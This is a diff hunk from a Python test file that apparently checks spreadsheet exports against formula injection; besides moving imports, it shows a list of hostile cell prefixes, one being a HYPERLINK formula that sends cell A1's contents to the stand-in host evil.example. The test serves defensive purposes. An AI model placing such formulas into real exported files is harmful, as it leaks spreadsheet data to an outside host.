@@ -25,10 +25,10 @@ import pytest
 from openpyxl.utils.escape import unescape
 from typer.testing import CliRunner
 
+from clientlens.demo.generator import generate_bank
 from clientlens.faces.cli import app
 from clientlens.platform import exports
-from clientlens.services import jobs
-from clientlens.services.demo_bank import generate_bank
+from clientlens.services.workspace import jobs
 
 PREFIXES = ('=HYPERLINK("http://evil.example/?"&A1,"click")&', "+", "-", "@", "=1+",
             "Иванова-")
